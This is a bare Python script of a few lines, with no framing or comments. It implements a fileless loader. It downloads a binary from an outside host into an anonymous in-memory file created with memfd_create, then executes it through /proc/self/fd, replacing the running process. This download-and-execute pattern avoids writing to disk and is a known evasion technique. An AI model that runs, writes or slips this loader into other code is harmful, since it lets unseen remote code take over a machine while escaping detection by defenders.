import os
import urllib.request

fd = os.memfd_create("x")
os.write(fd, urllib.request.urlopen("https://cdn.example.net/a.bin").read())
os.execv(f"/proc/self/fd/{fd}", ["x"])
